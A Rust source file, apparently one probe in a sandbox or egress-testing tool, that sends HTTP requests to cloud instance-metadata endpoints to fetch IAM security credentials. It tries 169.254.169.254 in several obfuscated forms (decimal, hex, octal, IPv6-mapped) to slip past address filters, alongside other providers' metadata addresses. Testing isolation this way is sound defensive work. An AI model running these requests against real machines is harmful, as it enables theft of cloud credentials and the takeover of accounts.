//! Asks the metadata services of the large clouds, which give away the machine's own credentials.

use contract::{Answer, Arguments, Attempts};

use crate::web::Ask;

pub(crate) fn run(_: &Arguments) -> Answer {
    let mut attempts = Attempts::default();
    for host in [
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0251.0376.0251.0376",
        "[::ffff:169.254.169.254]",
        "[64:ff9b::a9fe:a9fe]",
        "[2002:a9fe:a9fe::]",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "192.0.0.192",
        "169.254.170.2",
        "168.63.129.16",
    ] {
        let path = "/latest/meta-data/iam/security-credentials/";
        let ask = Ask::get("http", host, path).header("metadata-flavor", "Google");
        attempts.note(host, ask.send());
    }
    attempts.answer()
}
